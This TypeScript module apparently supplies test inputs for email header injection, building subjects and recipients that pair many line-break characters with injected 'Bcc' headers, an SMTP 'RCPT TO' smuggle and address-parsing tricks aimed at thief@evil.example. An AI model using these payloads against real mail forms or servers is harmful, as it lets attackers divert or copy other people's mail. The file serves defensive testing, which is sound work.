const LINE_BREAKS = ["\r\n", "\n", "\r", "\n\r", "\r\n ", "\u0085", "\u2028", "\u2029", "\u000b", "\u000c", "\u0000"];
const HEADERS = [
  "Bcc: thief@evil.example",
  "To: thief@evil.example",
  "Content-Type: text/html",
  "",
  ".\r\nRCPT TO:<thief@evil.example>",
];
const ADDRESS_TRICKS = [
  "thief@evil.example, ada@shelf.example",
  "ada@shelf.example; thief@evil.example",
  "ada@shelf.example thief@evil.example",
  "<ada@shelf.example> <thief@evil.example>",
  "ada@shelf.example>,<thief@evil.example",
  "Ada <ada@shelf.example>",
  '"ada@shelf.example, thief@evil.example"@shelf.example',
  '"thief@evil.example ada"@shelf.example',
  "thief@evil.example(ada@shelf.example)",
  "team: ada@shelf.example, thief@evil.example;",
  "@evil.example:ada@shelf.example",
  "ada@shelf.example@evil.example",
  "ada%0d%0aBcc:thief@evil.example@shelf.example\u0000",
  "ada@[127.0.0.1]",
  "ada@shelf.example SIZE=1",
  "ada@shelf.example> NOTIFY=SUCCESS",
  "=?utf-8?q?thief=40evil.example?= <ada@shelf.example>",
  "ada@shelf.example\\r\\nBcc: thief@evil.example",
  "",
  "ada",
  "@shelf.example",
  "ada@",
  "ada..b@shelf.example",
  `${"a".repeat(65)}@shelf.example`,
  `a@${"b".repeat(254)}.example`,
];
const SUBJECTS = ["Hello", "", "x".repeat(60), "Grüße"];

/** Subjects that try to start a new header or the body. Each contains a character some parser treats as a line end. */
export const hostileSubjects: readonly string[] = SUBJECTS.flatMap((subject) =>
  LINE_BREAKS.flatMap((lineBreak) => HEADERS.map((header) => `${subject}${lineBreak}${header}`)),
);

/** Recipients that try to be two addresses, or something other than an address. */
export const hostileRecipients: readonly string[] = [
  ...ADDRESS_TRICKS,
  ...LINE_BREAKS.flatMap((lineBreak) => HEADERS.map((header) => `ada@shelf.example${lineBreak}${header}`)),
];
